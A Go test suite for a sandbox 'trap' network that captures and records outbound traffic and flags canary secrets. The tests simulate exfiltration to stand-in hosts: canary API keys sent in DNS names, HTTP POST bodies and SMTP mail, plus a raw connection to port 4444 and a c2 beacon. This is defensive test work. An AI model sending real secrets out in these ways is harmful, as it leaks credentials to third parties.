package trap

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"errors"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/smtp"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

func dnsQuery(t *testing.T, n *Network, server, name string, qtype dnsmessage.Type) dnsmessage.Message {
	t.Helper()
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, RecursionDesired: true})
	b.StartQuestions()
	b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName(name + "."), Type: qtype, Class: dnsmessage.ClassINET})
	q, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	c, err := dialIn(n.NetnsPath(), "udp4", server+":53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := c.Write(q); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 512)
	k, err := c.Read(buf)
	if err != nil {
		t.Fatalf("reading DNS answer from %s: %v", server, err)
	}
	var m dnsmessage.Message
	if err := m.Unpack(buf[:k]); err != nil {
		t.Fatal(err)
	}
	return m
}

func TestDNS(t *testing.T) {
	_, n := openTest(t, Config{})
	tests := []struct {
		server, name string
		qtype        dnsmessage.Type
		answers      int
	}{
		{n.TrapAddr().String(), "exfil.example.com", dnsmessage.TypeA, 1},
		{"8.8.8.8", "Other.Example.NET", dnsmessage.TypeA, 1}, // a hard-coded resolver reaches the trap too
		{n.TrapAddr().String(), "v6.example.com", dnsmessage.TypeAAAA, 0},
		{n.TrapAddr().String(), "mail.example.com", dnsmessage.TypeMX, 0},
	}
	for _, tt := range tests {
		m := dnsQuery(t, n, tt.server, tt.name, tt.qtype)
		if m.RCode != dnsmessage.RCodeSuccess || m.ID != 7 || len(m.Answers) != tt.answers {
			t.Fatalf("%s %v: rcode %v id %d answers %d, want NOERROR, 7, %d", tt.name, tt.qtype, m.RCode, m.ID, len(m.Answers), tt.answers)
		}
		if tt.answers == 1 {
			a := m.Answers[0].Body.(*dnsmessage.AResource).A
			if netip.AddrFrom4(a) != n.TrapAddr() {
				t.Errorf("%s answered %v, want the trap %v", tt.name, a, n.TrapAddr())
			}
		}
	}
	// A placeholder smuggled out in a name is a canary use of its own.
	ph, _ := Placeholders([]string{"API_KEY"}, "abcd1234")
	dnsQuery(t, n, n.TrapAddr().String(), ph["API_KEY"]+".exfil.example.com", dnsmessage.TypeA)
	recs, _ := n.Records()
	lookups, _, uses := Split(recs, time.Time{}, time.Now().Add(time.Hour))
	want := []string{"exfil.example.com", "other.example.net", "v6.example.com", "mail.example.com", strings.ToLower(ph["API_KEY"]) + ".exfil.example.com"}
	if !slices.Equal(lookups, want) {
		t.Errorf("lookups %q, want %q", lookups, want)
	}
	if len(uses) != 1 || !strings.EqualFold(uses[0].Name, "API_KEY") || !strings.HasPrefix(uses[0].Where, "dns ") {
		t.Errorf("canary uses %+v, want API_KEY sent in a DNS name", uses)
	}
	if !recs[len(recs)-1].Attempt().Canary {
		t.Error("the lookup's network attempt does not say it carried a canary")
	}
}

func TestHTTPPost(t *testing.T) {
	p, n := openTest(t, Config{})
	_ = p
	ph, _ := Placeholders([]string{"SENDGRID_API_KEY"}, "abcd1234")
	body := `{"personalizations":[{"to":[{"email":"victim@example.org"}]}],"cc":"boss@example.org","subject":"x","content":"` +
		ph["SENDGRID_API_KEY"] + `"}`
	client := sandboxClient(n, nil)
	req, _ := http.NewRequest("POST", "http://203.0.113.7/v3/mail/send?x=1", strings.NewReader(body))
	req.Host = "api.sendgrid.test"
	req.Header.Set("Content-Type", "application/json")
	res, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	answer, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 200 || !bytes.Equal(answer, synthetic) {
		t.Fatalf("answer %d %s", res.StatusCode, answer)
	}
	recs, _ := n.Records()
	r := find(recs, "http")
	sum := sha256.Sum256([]byte(body))
	a := r.Attempt()
	if a.Host != "api.sendgrid.test" || a.Address != "203.0.113.7" || a.Port != 80 || a.Method != "POST" ||
		a.Path != "/v3/mail/send?x=1" || a.SHA256 != hex.EncodeToString(sum[:]) || a.Bytes != int64(len(body)) || !a.Canary {
		t.Errorf("attempt %+v", a)
	}
	if !slices.Equal(a.Recipients, []string{"boss@example.org", "victim@example.org"}) {
		t.Errorf("recipients %q", a.Recipients)
	}
	if len(r.Canaries) != 1 || r.Canaries[0].Name != "SENDGRID_API_KEY" || r.Canaries[0].Where != "http api.sendgrid.test:80" {
		t.Errorf("canaries %+v", r.Canaries)
	}
	if !strings.HasPrefix(a.FirstBytes, `{"personalizations"`) {
		t.Errorf("first bytes %q", a.FirstBytes)
	}
}

// sandboxClient is an HTTP client whose connections start inside the
// sandbox namespace; every dial goes to dialTo when set.
func sandboxClient(n *Network, roots *x509.CertPool) *http.Client {
	return &http.Client{Transport: &http.Transport{
		DialContext: func(_ context.Context, network, addr string) (net.Conn, error) {
			return dialIn(n.NetnsPath(), "tcp4", addr)
		},
		TLSClientConfig: &tls.Config{RootCAs: roots},
	}, Timeout: 10 * time.Second}
}

func caPool(t *testing.T, p *Pool) *x509.CertPool {
	pem, err := os.ReadFile(p.CAFile())
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(pem) {
		t.Fatal("CA file holds no certificate")
	}
	return roots
}

func TestHTTPS(t *testing.T) {
	p, n := openTest(t, Config{})
	client := sandboxClient(n, caPool(t, p))
	// The name is looked up nowhere: the dial goes to whatever address
	// the URL gives, here a name the sandbox's resolver would map to the trap.
	tr := client.Transport.(*http.Transport)
	tr.DialContext = func(_ context.Context, _, addr string) (net.Conn, error) {
		return dialIn(n.NetnsPath(), "tcp4", "192.0.2.10:443")
	}
	res, err := client.Get("https://hooks.exfil.example/collect")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	recs, _ := n.Records()
	r := find(recs, "https")
	if r.SNI != "hooks.exfil.example" || r.Host != "hooks.exfil.example" || r.Path != "/collect" || r.Address != "192.0.2.10" || r.Port != 443 {
		t.Errorf("record %+v", r)
	}
	// Without the CA the handshake fails, and is still recorded with its SNI.
	c, err := dialIn(n.NetnsPath(), "tcp4", "192.0.2.11:443")
	if err != nil {
		t.Fatal(err)
	}
	tc := tls.Client(c, &tls.Config{ServerName: "refused.example"})
	if err := tc.Handshake(); err == nil {
		t.Fatal("handshake succeeded without the trap CA")
	}
	tc.Close()
	waitFor(t, func() bool {
		recs, _ := n.Records()
		return slices.ContainsFunc(recs, func(r Record) bool { return r.SNI == "refused.example" && r.Incomplete == "tls-handshake" })
	})
}

// waitFor is for the one record a server writes after the client already
// saw the end of the exchange (a failed handshake): polled, bounded.
func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); !cond(); {
		if time.Now().After(deadline) {
			t.Fatal("condition never held")
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func TestSMTP(t *testing.T) {
	_, n := openTest(t, Config{})
	ph, _ := Placeholders([]string{"SMTP_PASSWORD"}, "abcd1234")
	for _, port := range []string{"25", "587"} {
		c, err := dialIn(n.NetnsPath(), "tcp4", "198.51.100.25:"+port)
		if err != nil {
			t.Fatal(err)
		}
		sc, err := smtp.NewClient(c, "mx.example.org")
		if err != nil {
			t.Fatal(err)
		}
		steps := []error{sc.Hello("pkg"), sc.Mail("pkg@example.org"), sc.Rcpt("first@example.org"), sc.Rcpt("second@example.org")}
		w, err := sc.Data()
		steps = append(steps, err)
		if err == nil {
			io.WriteString(w, "Subject: hi\r\n\r\n"+ph["SMTP_PASSWORD"]+"\r\n.dotted\r\n")
			steps = append(steps, w.Close())
		}
		steps = append(steps, sc.Quit())
		if err := errors.Join(steps...); err != nil {
			t.Fatalf("port %s: %v", port, err)
		}
	}
	recs, _ := n.Records()
	for _, r := range recs {
		if r.Protocol != "smtp" || r.From != "pkg@example.org" || !slices.Equal(r.Recipients, []string{"first@example.org", "second@example.org"}) ||
			!strings.Contains(r.FirstBytes, "Subject: hi") || len(r.Canaries) != 1 || r.Incomplete != "" {
			t.Errorf("record %+v", r)
		}
	}
	if len(recs) != 2 {
		t.Errorf("%d records, want 2", len(recs))
	}
}

func TestSMTPRefusesAuth(t *testing.T) {
	_, n := openTest(t, Config{})
	c, err := dialIn(n.NetnsPath(), "tcp4", n.TrapAddr().String()+":587")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	sc, _ := smtp.NewClient(c, "mx.example.org")
	sc.Hello("pkg")
	for _, cmd := range []string{"STARTTLS", "AUTH PLAIN " + "AGhpc3RvcgBoaXN0b3ItY2FuYXJ5LWFiY2QxMjM0LWRvdGVudg=="} {
		id, _ := sc.Text.Cmd("%s", cmd)
		sc.Text.StartResponse(id)
		code, _, err := sc.Text.ReadResponse(0)
		sc.Text.EndResponse(id)
		if code != 502 {
			t.Errorf("%s: %d %v, want 502", cmd, code, err)
		}
	}
	sc.Quit()
	recs, _ := n.Records()
	r := find(recs, "smtp")
	if r.Incomplete != "unsupported-command" || len(r.Canaries) != 1 || r.Canaries[0].Name != "/work/app/.env" {
		t.Errorf("record %+v", r)
	}
}

func TestRawTCP(t *testing.T) {
	_, n := openTest(t, Config{})
	c, err := dialIn(n.NetnsPath(), "tcp4", "198.51.100.1:4444")
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("hello\x00world"))
	c.(*net.TCPConn).CloseWrite()
	io.ReadAll(c) // the trap closes after recording
	c.Close()
	recs, _ := n.Records()
	r := find(recs, "tcp")
	if r.Address != "198.51.100.1" || r.Port != 4444 || r.FirstBytes != "hello.world" || r.Bytes != 11 || r.Host != "" {
		t.Errorf("record %+v", r)
	}
}

// A connection to the trap address after one lookup is that lookup's.
func TestAttribution(t *testing.T) {
	_, n := openTest(t, Config{})
	dnsQuery(t, n, n.TrapAddr().String(), "c2.example.com", dnsmessage.TypeA)
	c, err := dialIn(n.NetnsPath(), "tcp4", n.TrapAddr().String()+":9001")
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("beacon"))
	c.(*net.TCPConn).CloseWrite()
	io.ReadAll(c)
	c.Close()
	recs, _ := n.Records()
	if r := find(recs, "tcp"); r.Host != "c2.example.com" {
		t.Errorf("record %+v, want attributed to c2.example.com", r)
	}
}

// hostAddrs are the root namespace's global IPv4 addresses.
func hostAddrs(t *testing.T) []string {
	ifaddrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range ifaddrs {
		if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
			out = append(out, ip.IP.String())
		}
	}
	return out
}

func TestNoRouteOut(t *testing.T) {
	_, n := openTest(t, Config{})
	ln, err := net.Listen("tcp4", "0.0.0.0:0") // the host's loopback and every host address
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	if c, err := dialIn(n.NetnsPath(), "tcp4", net.JoinHostPort("127.0.0.1", itoa(port))); err == nil {
		c.Close()
		t.Error("the sandbox reached a loopback listener")
	}
	for _, a := range append(hostAddrs(t), "1.1.1.1") {
		c, err := dialIn(n.NetnsPath(), "tcp4", net.JoinHostPort(a, itoa(port)))
		if err != nil {
			t.Fatalf("dial %s: %v (want the trap to answer)", a, err)
		}
		c.(*net.TCPConn).CloseWrite()
		io.ReadAll(c)
		c.Close()
	}
	// And the trap side itself has nowhere to go.
	trapPath := filepath.Join(netnsDir, n.trapNS)
	for _, a := range append(hostAddrs(t), "1.1.1.1") {
		if c, err := dialIn(trapPath, "tcp4", net.JoinHostPort(a, itoa(port))); err == nil {
			c.Close()
			t.Errorf("the trap namespace reached %s", a)
		}
	}
	if accepted.Load() != 0 {
		t.Errorf("the host listener accepted %d connections", accepted.Load())
	}
	recs, _ := n.Records()
	for _, a := range append(hostAddrs(t), "1.1.1.1") {
		if !slices.ContainsFunc(recs, func(r Record) bool { return r.Address == a && r.Port == port }) {
			t.Errorf("no trap record for %s:%d", a, port)
		}
	}
	checkSysctls(t, n)
}

func checkSysctls(t *testing.T, n *Network) {
	for _, ns := range []string{n.sandboxNS, n.trapNS} {
		inNetns(filepath.Join(netnsDir, ns), func() error {
			for key, want := range map[string]string{"net/ipv4/ip_forward": "0", "net/ipv6/conf/all/disable_ipv6": "1"} {
				b, err := os.ReadFile("/proc/sys/" + key)
				if err == nil && strings.TrimSpace(string(b)) != want {
					t.Errorf("%s: %s = %s, want %s", ns, key, b, want)
				}
			}
			return nil
		})
	}
	out, err := exec.Command("ip", "-n", n.trapNS, "route", "show", "default").CombinedOutput()
	if err != nil || len(bytes.TrimSpace(out)) != 0 {
		t.Errorf("trap namespace default route: %q %v, want none", out, err)
	}
}

// A TLS connection to a public address meets the trap's certificate: it
// never left.
func TestPublicAddressMeetsTrap(t *testing.T) {
	p, n := openTest(t, Config{})
	c, err := dialIn(n.NetnsPath(), "tcp4", "1.1.1.1:443")
	if err != nil {
		t.Fatal(err)
	}
	tc := tls.Client(c, &tls.Config{ServerName: "one.one.one.one", RootCAs: caPool(t, p)})
	if err := tc.Handshake(); err != nil {
		t.Fatalf("handshake with the trap: %v", err)
	}
	if issuer := tc.ConnectionState().PeerCertificates[0].Issuer.CommonName; !strings.Contains(issuer, "histor trap") {
		t.Errorf("issuer %q", issuer)
	}
	tc.Close()
}

func TestBodyTooLarge(t *testing.T) {
	_, n := openTest(t, Config{})
	body := bytes.Repeat([]byte("a"), PayloadCap+50_000)
	res, err := sandboxClient(n, nil).Post("http://203.0.113.9/upload", "application/octet-stream", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("status %d, want 413", res.StatusCode)
	}
	recs, _ := n.Records()
	r := find(recs, "http")
	sum := sha256.Sum256(body[:PayloadCap])
	if !r.Truncated || r.Incomplete != "too-large" || r.Bytes != int64(len(body)) || r.SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("record %+v", r)
	}
}

// TestHandlerBound: beyond DefaultHandlers connections at once, the trap
// records a connection as overloaded and holds no more. The handlers are
// held by silent clients, not by a timer, so what is counted does not
// depend on how fast the dials come.
func TestHandlerBound(t *testing.T) {
	_, n := openTest(t, Config{SocketTimeout: 30 * time.Second})
	const conns = 50
	var clients []net.Conn
	for i := range conns {
		c, err := dialIn(n.NetnsPath(), "tcp4", "198.51.100.2:"+itoa(7000+i))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		clients = append(clients, c)
	}
	overloaded := func() (int, int, bool) {
		recs, truncated := n.Records()
		k := 0
		for _, r := range recs {
			if r.Incomplete == "overloaded" {
				k++
			}
		}
		return k, len(recs), truncated
	}
	waitFor(t, func() bool { k, _, _ := overloaded(); return k >= conns-DefaultHandlers })
	if peak := n.peak.Load(); peak != DefaultHandlers {
		t.Errorf("peak handlers %d, want %d", peak, DefaultHandlers)
	}
	for _, c := range clients {
		c.Close() // the held handlers now read EOF and end
	}
	waitFor(t, func() bool { _, total, _ := overloaded(); return total >= conns })
	if k, total, truncated := overloaded(); total != conns || k != conns-DefaultHandlers || truncated {
		t.Errorf("%d records, %d overloaded, truncated %v; want %d, %d, false", total, k, truncated, conns, conns-DefaultHandlers)
	}
}

func TestRecordBound(t *testing.T) {
	_, n := openTest(t, Config{MaxRecords: 3})
	for i := range 5 {
		dnsQuery(t, n, n.TrapAddr().String(), "n"+itoa(i)+".example", dnsmessage.TypeA)
	}
	recs, truncated := n.Records()
	if len(recs) != 3 || !truncated {
		t.Errorf("%d records, truncated %v; want 3, true", len(recs), truncated)
	}
}

// TestRemove: Remove deletes both namespaces of a network its owner did not
// close, takes one already gone as done, and refuses an id Open would.
func TestRemove(t *testing.T) {
	needRoot(t)
	id := testID("stale")
	for _, name := range []string{SandboxPrefix + id, TrapPrefix + id} {
		if out, err := exec.Command("ip", "netns", "add", name).CombinedOutput(); err != nil {
			t.Fatalf("%s: %v", out, err)
		}
	}
	if err := Remove(context.Background(), id); err != nil {
		t.Fatal(err)
	}
	if left := ourNamespaces(t, id); len(left) != 0 {
		t.Errorf("left %q", left)
	}
	if err := Remove(context.Background(), id); err != nil {
		t.Errorf("removing it again: %v", err)
	}
	if err := Remove(context.Background(), "../etc"); err == nil {
		t.Error("a bad id was taken")
	}
}

// ourNamespaces is the namespaces left of the network with this id. Only
// the test's own: other packages' sandbox runs (ids "r-…") can be opening or
// tearing down theirs on the same machine while this package runs.
func ourNamespaces(t *testing.T, id string) []string {
	entries, _ := os.ReadDir(netnsDir)
	var out []string
	for _, e := range entries {
		if e.Name() == SandboxPrefix+id || e.Name() == TrapPrefix+id {
			out = append(out, e.Name())
		}
	}
	return out
}

func TestCloseLeavesNothing(t *testing.T) {
	needRoot(t)
	links, rules := hostState(t)
	p := newTestPool(t, Config{})
	id := testID("close")
	n, err := p.Open(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Open(context.Background(), id); err == nil {
		t.Error("a second network with the same id opened")
	}
	if _, err := os.Stat(n.NetnsPath()); err != nil {
		t.Errorf("the refused duplicate took the first network's namespace: %v", err)
	}
	if err := n.Close(); err != nil {
		t.Fatal(err)
	}
	if err := n.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	if left := ourNamespaces(t, id); len(left) != 0 {
		t.Errorf("namespaces left: %q", left)
	}
	if l, r := hostState(t); l != links || r != rules {
		t.Errorf("host changed:\nlinks %q\nwas   %q\nrules %q\nwas   %q", l, links, r, rules)
	}
	if len(p.used) != 0 {
		t.Errorf("slots still taken: %v", p.used)
	}
}

// hostState is the root namespace's links and iptables rules.
func hostState(t *testing.T) (string, string) {
	links, err := exec.Command("ip", "-o", "link", "show").Output()
	if err != nil {
		t.Fatal(err)
	}
	rules, err := exec.Command("iptables-save").Output()
	if err != nil {
		t.Fatal(err)
	}
	var kept []string
	for _, l := range strings.Split(string(rules), "\n") {
		if !strings.HasPrefix(l, "#") && !strings.HasPrefix(l, ":") { // comments and counters move
			kept = append(kept, l)
		}
	}
	return string(links), strings.Join(kept, "\n")
}

func itoa(i int) string { return strconv.Itoa(i) }

func BenchmarkOpenClose(b *testing.B) {
	needRoot(b)
	p := newTestPool(b, Config{})
	var open, closing time.Duration
	id := testID("bench")
	for b.Loop() {
		start := time.Now()
		n, err := p.Open(context.Background(), id)
		if err != nil {
			b.Fatal(err)
		}
		mid := time.Now()
		if err := n.Close(); err != nil {
			b.Fatal(err)
		}
		open, closing = open+mid.Sub(start), closing+time.Since(mid)
	}
	b.ReportMetric(open.Seconds()*1000/float64(b.N), "open-ms/op")
	b.ReportMetric(closing.Seconds()*1000/float64(b.N), "close-ms/op")
}

// TestHTTPEndlessHeaders: a request whose header never ends is cut at the
// trap's header bound and recorded as unparsed; the trap does not keep
// reading.
func TestHTTPEndlessHeaders(t *testing.T) {
	_, n := openTest(t, Config{})
	c, err := dialIn(n.NetnsPath(), "tcp4", "203.0.113.9:80")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte("GET / HTTP/1.1\r\nHost: flood.example\r\n"))
	line := []byte("X-Flood: " + strings.Repeat("a", 1000) + "\r\n")
	// The kernel takes what the trap never reads into the two sockets'
	// buffers (1.3 MB was seen here; tcp_rmem allows up to 32 MiB), so what
	// the client could send says little; that the trap closed the
	// connection, long before a ceiling far beyond those buffers, says it
	// stopped reading. A trap that kept reading would take the whole
	// ceiling and never close.
	const ceiling = 256 << 20
	sent := 0
	var werr error
	for sent < ceiling && werr == nil {
		c.SetWriteDeadline(time.Now().Add(2 * time.Second))
		var k int
		k, werr = c.Write(line)
		sent += k
	}
	switch {
	case werr == nil:
		t.Fatalf("the trap took %d bytes of header and still reads", sent)
	case errors.Is(werr, os.ErrDeadlineExceeded):
		t.Fatalf("after %d bytes the trap stopped reading but kept the connection: %v", sent, werr)
	}
	t.Logf("the trap closed after the client wrote %d bytes (%v)", sent, werr)
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		recs, _ := n.Records()
		for _, r := range recs {
			if r.Protocol == "http" && r.Incomplete == "unparsed" {
				return
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	recs, _ := n.Records()
	t.Fatalf("no unparsed http record: %+v", recs)
}
